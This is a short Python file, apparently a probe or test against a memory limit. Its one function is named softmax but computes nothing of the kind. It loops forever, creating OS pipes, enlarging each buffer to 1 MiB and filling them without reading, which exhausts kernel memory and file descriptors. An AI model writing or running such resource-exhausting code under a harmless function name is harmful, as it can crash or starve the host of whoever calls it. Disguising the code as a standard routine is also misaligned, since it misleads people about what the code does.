"""Against "memory is bounded": fills pipes that nobody reads."""

import fcntl
import os


def softmax(scores, axis=-1):
    while True:
        reader, writer = os.pipe()
        fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(writer, False)
        os.write(writer, bytes(1 << 20))
